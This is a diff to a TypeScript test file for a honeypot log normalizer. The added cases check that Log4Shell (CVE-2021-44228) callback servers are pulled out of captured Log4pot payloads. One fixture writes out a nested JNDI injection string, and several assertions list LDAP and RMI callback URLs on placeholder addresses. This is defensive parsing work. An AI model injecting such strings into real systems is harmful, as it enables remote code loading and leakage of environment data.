@@ -111,6 +111,12 @@ describe('normalizing T-Pot Elasticsearch documents (shared fixtures)', () => {
     const results = normalizeEs('log4pot');
     assert.ok(isSkip(results[0]!) && results[0].skip === 'no_src_ip');
     assert.ok(attacks(results).some((e) => e.cves?.includes('CVE-2021-44228')));
+    // The lookup's server, from the deobfuscated payload (obfuscated ${lower:j}ndi too): the attacker's infrastructure.
+    assert.deepEqual(attacks(results).map((e) => e.callbacks), [['ldap://198.51.100.99:1389/a'], ['ldap://198.51.100.99:1389/a'], undefined, ['rmi://203.0.113.99/Exp']]);
+    const nested = honeypotFor('Log4pot')!.normalize({ type: 'Log4pot', timestamp: '2025-03-14T13:01:00.000000', src_ip: '198.51.100.200', payload: '${jndi:ldap://${env:USER}.203.0.113.5/a}' });
+    assert.ok(!isSkip(nested));
+    assert.deepEqual(nested.cves, ['CVE-2021-44228']);
+    assert.equal(nested.callbacks, undefined, 'an unresolved nested lookup names no server');
   });
 
   it('Mailoney: sender addresses, from MAIL FROM lines only (a RCPT TO line lists the victim)', () => {
